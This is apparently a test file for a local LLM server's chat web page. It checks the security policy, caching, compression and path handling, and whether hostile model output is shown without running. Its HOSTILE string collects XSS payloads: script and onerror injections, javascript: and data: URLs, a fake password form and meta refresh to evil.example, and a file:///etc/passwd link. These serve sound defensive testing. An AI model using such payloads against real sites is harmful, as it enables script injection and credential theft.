/** What strangers write is shown and never run, how the page and its assets are served, and how little comes before it is seen. */

import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gunzipSync, zstdDecompressSync } from "node:zlib";
import type { Browser } from "playwright-core";
import {
  conversation,
  describeInBrowser,
  exported,
  importText,
  openPage,
  send,
  startBrowser,
} from "./support/browser.ts";
import { QUESTION } from "./support/chat.ts";
import { writeScriptedModel } from "./support/scripted_model.ts";
import { runProgram, startServer, type TestServer } from "./support/server.ts";

setDefaultTimeout(60_000);

const HTML = { accept: "text/html,application/xhtml+xml,*/*;q=0.8" };

let server: TestServer;
beforeAll(async () => {
  server = await startServer(["--log", "text"]);
});
afterAll(() => server.stop());

describe("the page as it is served", () => {
  const get = (path: string, headers: Record<string, string> = {}) =>
    fetch(server.url + path, { headers, decompress: false, redirect: "manual" });
  const assets = async () => {
    const text = await (await fetch(`${server.url}/`, { headers: HTML })).text();
    return [...text.matchAll(/"(assets\/[^"]+)"/g)].map(([, path]) => `/${path}`);
  };

  test("GET / is the page for browsers and an error for programs, and each is told to caches", async () => {
    const page = await get("/", HTML);
    expect([page.status, page.headers.get("content-type")]).toEqual([200, "text/html; charset=utf-8"]);
    expect(page.headers.get("vary")).toContain("accept");
    const policy = page.headers.get("content-security-policy") ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toMatch(/unsafe|https?:|\*/);
    for (const accept of [undefined, "*/*", "application/json"]) {
      const response = await get("/", accept === undefined ? {} : { accept });
      expect([response.status, ((await response.json()) as { error: object }).error]).toMatchObject([
        404,
        { code: "unknown_url" },
      ]);
      expect(response.headers.get("vary")).toContain("accept");
    }
    const method = await fetch(`${server.url}/`, { method: "POST", body: "{}", headers: HTML });
    expect([method.status, method.headers.get("allow")]).toEqual([405, "GET, HEAD"]);
  });

  test("nothing in it is inline or comes from elsewhere", async () => {
    const text = await (await fetch(`${server.url}/`, { headers: HTML })).text();
    expect(text).not.toMatch(/<style|style=|<script(?![^>]* src=)|\son\w+=|https?:/i);
    expect((await assets()).length).toBeGreaterThanOrEqual(3);
  });

  test("it is asked for again and not sent again; assets are kept for good", async () => {
    const tag = (await get("/", HTML)).headers.get("etag") as string;
    const again = await get("/", { ...HTML, "if-none-match": tag });
    expect([again.status, await again.text()]).toEqual([304, ""]);
    expect((await get("/", { ...HTML, "if-none-match": '"other"' })).status).toBe(200);
    for (const path of await assets()) {
      const asset = await get(path);
      expect([path, asset.status, asset.headers.get("cache-control")]).toEqual([
        path,
        200,
        "public, max-age=31536000, immutable",
      ]);
      expect(path).toMatch(/-[0-9a-z]{8}\.\w+$/);
    }
  });

  test.each<[string | undefined, string | null]>([
    ["gzip, deflate, br, zstd", "zstd"],
    ["gzip, deflate", "gzip"],
    ["zstd;q=0, gzip;q=0.5", "gzip"],
    ["*", "zstd"],
    ["br", null],
    ["gzip;q=0", null],
    [undefined, null],
  ])("Accept-Encoding %p is answered in %p", async (accepted, expected) => {
    const script = (await assets()).find((path) => path.endsWith(".js")) as string;
    const plain = Buffer.from(await (await fetch(server.url + script)).arrayBuffer());
    const response = await get(script, { "accept-encoding": accepted ?? "identity" });
    expect(response.headers.get("content-encoding")).toBe(expected);
    const bytes = Buffer.from(await response.arrayBuffer());
    const read = expected === "zstd" ? zstdDecompressSync(bytes) : expected === "gzip" ? gunzipSync(bytes) : bytes;
    expect(read.equals(plain)).toBe(true);
  });

  test("no other names than those of its assets are there, and the log holds no made-up ones", async () => {
    for (const path of [
      "/assets/",
      "/assets/x",
      "/assets/index.html",
      "/assets/../index.html",
      "/assets/%2e%2e/package.json",
    ]) {
      expect([path, (await get(path)).status]).toEqual([path, 404]);
    }
    await get((await assets())[0] as string);
    expect(server.log()).toContain("GET /assets/{asset} 200");
    expect(server.log()).not.toContain("package.json");
  });
});

describe("below a path", () => {
  test("everything is there with it and without, keys are needed all the same, and the page's own address ends with a slash", async () => {
    const below = await startServer(["--log", "text", "--base-path", "/llm/", "--api-key", "sk-1"]);
    const get = (path: string, headers: Record<string, string> = {}) =>
      fetch(below.url + path, { headers, redirect: "manual" });
    const key = { authorization: "Bearer sk-1" };
    for (const prefix of ["", "/llm"]) {
      expect((await get(`${prefix}/health`)).status).toBe(200);
      expect((await get(`${prefix}/`, HTML)).status).toBe(200);
      expect((await get(`${prefix}/v1/models`)).status).toBe(401);
      expect((await get(`${prefix}/v1/models`, key)).status).toBe(200);
      expect((await get(`${prefix}/models`, key)).status).toBe(200);
    }
    const description = (await (await get("/openapi.json", key)).json()) as { servers: object[] };
    expect(description.servers).toEqual([{ url: "/llm" }]);
    const bare = await get("/llm", HTML);
    expect([bare.status, bare.headers.get("location")]).toEqual([308, "llm/"]);
    for (const path of ["/llmx/health", "/llm/llm/health", "/llm//health"]) {
      expect([path, (await get(path, key)).status]).toEqual([path, 404]);
    }
    expect(below.log()).toContain("GET /v1/models 200");
    await below.stop();
  });

  test.each(["llm", "/l m", "/llm?x", "/../llm", "//"])("%p is no such path", async (path) => {
    const { code, stderr } = await runProgram(["serve", "--port", "0", "--base-path", path]);
    expect([code, stderr]).toEqual([2, expect.stringContaining("--base-path takes a path such as /llm")]);
  });
});

/** Markdown and HTML that would run, load, or look like the page's own if they could. */
const HOSTILE = `
<script>document.title = "hacked"</script>
<img src=x onerror="document.title='hacked'">
<img src="https://evil.example/pixel.png">
![picture](https://evil.example/markdown.png)
![run](javascript:document.title='hacked')
<svg onload="document.title='hacked'"><script>document.title='hacked'</script></svg>
<math><mi//xlink:href="data:x,<script>document.title='hacked'</script>">
<iframe src="javascript:parent.document.title='hacked'"></iframe>
<iframe srcdoc="<script>parent.document.title='hacked'</script>"></iframe>
<object data="data:text/html,<script>document.title='hacked'</script>"></object>
<style>body { display: none !important }</style>
<link rel=stylesheet href="https://evil.example/style.css">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<form action="https://evil.example"><input name=key type=password><button>Send</button></form>
<div style="position:fixed;inset:0;background:url(https://evil.example/x)" class="dialog">over everything</div>
<a href="javascript:document.title='hacked'" id=message name=message>click</a>
<details ontoggle="document.title='hacked'" open><summary>more</summary>inside</details>
<video src="https://evil.example/v.mp4" autoplay onloadstart="document.title='hacked'"></video>

[link](javascript:document.title='hacked') [data](data:text/html,<script>document.title='hacked'</script>)
[vb](vbscript:x) [file](file:///etc/passwd) [good](https://good.example/ "title\\" onmouseover=\\"document.title='hacked'")
<https://auto.example/>

| a | b |
|---|---|
| <img src=x onerror=document.title='hacked'> | \`<script>document.title='hacked'</script>\` |

\`\`\`html"><script>document.title='hacked'</script>
<script>document.title = "hacked"</script>
\`\`\`

\`\`\`js
</code></pre><script>document.title = "hacked"</script>
\`\`\`

$$<script>document.title='hacked'</script>$$ and $x_1$ and \\(<img src=x onerror=document.title='hacked'>\\)

<noscript><p title="</noscript><img src=x onerror=document.title='hacked'>">
<!--><img src=x onerror=document.title='hacked'>-->
<x-foo onclick=document.title='hacked'>custom</x-foo> vector<int> <b>bold</b> a<br>b
`;

/** How many elements that could do harm are in answers. */
const FORBIDDEN =
  "document.querySelectorAll('.answer :is(script, iframe, object, img, svg:not(.icon), style, link, form:not(.tool-result), video, [style]:not(.fresh), [id], [onerror])').length";

describeInBrowser("an answer that means harm", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startBrowser();
  });
  afterAll(() => browser.close());

  test("is shown: nothing runs, nothing is loaded, the policy has nothing to report", async () => {
    const { page, faults } = await openPage(browser, server.url);
    const tool = {
      id: "<img src=x onerror=document.title='hacked'>",
      name: HOSTILE,
      arguments: `{"${"<b>"}": "<img src=x>"}`,
    };
    const hostile = conversation(HOSTILE.replaceAll("\n", " "), [HOSTILE, HOSTILE, "and", "this"]) as {
      conversation: object;
      messages: object[];
    };
    Object.assign(hostile.messages[1] as object, { reasoning: HOSTILE, model: HOSTILE, calls: [tool] });
    Object.assign(hostile.messages[3] as object, { error: HOSTILE, ending: "error" });
    await importText(page, exported(hostile));
    const answer = page.locator(".answer").first();
    await answer.locator(".tool").waitFor();
    await answer.locator(".thinking > summary").click();
    // Whatever could load or run has had its turn when a later thing of the same kind has.
    await page.evaluate(
      "new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = 'data:,'; })",
    );
    for (const link of await answer.locator("a").all()) {
      expect((await link.getAttribute("href")) ?? "none").toMatch(/^(?:https:\/\/(?:evil|good|auto)\.example\/|none$)/);
      expect(await link.getAttribute("rel")).toContain("noopener");
    }
    expect(await page.evaluate(FORBIDDEN)).toBe(0);
    expect(await answer.locator(".dialog").count()).toBe(0);
    const text = await answer.locator(".markdown").last().innerText();
    for (const shown of ["vector<int>", "<x-foo", "custom", "over everything", "$x_1$"]) expect(text).toContain(shown);
    expect(await answer.locator("b, strong", { hasText: "bold" }).count()).toBeGreaterThan(0);
    expect(await page.locator("#message").isVisible()).toBe(true);
    expect(await page.title()).not.toBe("hacked");
    expect(faults).toEqual([]);
    await page.context().close();
  });

  test("comes in pieces as well: text and thoughts that grow are no less clean than whole ones", async () => {
    const directory = mkdtempSync(join(tmpdir(), "wrinklefree-hostile-"));
    const pieces = (length: number) => HOSTILE.match(new RegExp(`[^]{1,${length}}`, "g")) as string[];
    // A token that comes twice would go on as it did the first time.
    writeScriptedModel(
      join(directory, "model"),
      [["<|says|>", "<think>", ...pieces(43), "</think>", ...pieces(31)]],
      "{% for m in messages %}{% if m.reasoning_content %}<think>{{ m.reasoning_content }}</think>{% endif %}{{ m.content }}<|im_end|>{% endfor %}{% if add_generation_prompt %}<|says|>{% endif %}",
    );
    const hostile = await startServer([join(directory, "model"), "--log", "off"], {
      env: { PATH: process.env.PATH as string, WRINKLEFREE_STORE: join(directory, "store") },
    });
    const { page, faults } = await openPage(browser, hostile.url);
    await send(page, QUESTION);
    await page.locator(".answer[aria-busy=false] .figures").waitFor();
    await page.locator(".thinking > summary").click();
    const answer = page.locator(".answer > .markdown");
    expect(await answer.innerText()).toContain("vector<int>");
    expect(await page.locator(".thinking .markdown").innerText()).toContain("vector<int>");
    expect(await page.evaluate(FORBIDDEN)).toBe(0);
    expect(await page.title()).not.toBe("hacked");
    expect(faults).toEqual([]);
    await page.context().close();
    await hostile.stop();
    rmSync(directory, { recursive: true });
  });

  test("the page is seen after less than 120 kB", async () => {
    const { page } = await openPage(browser, server.url);
    await page.getByText("ready").waitFor();
    const loaded = await page.evaluate<number>(
      "[...performance.getEntriesByType('navigation'), ...performance.getEntriesByType('resource')].reduce((sum, { transferSize }) => sum + transferSize, 0)",
    );
    expect(loaded).toBeGreaterThan(20_000);
    expect(loaded).toBeLessThan(120_000);
    await page.context().close();
  });
});
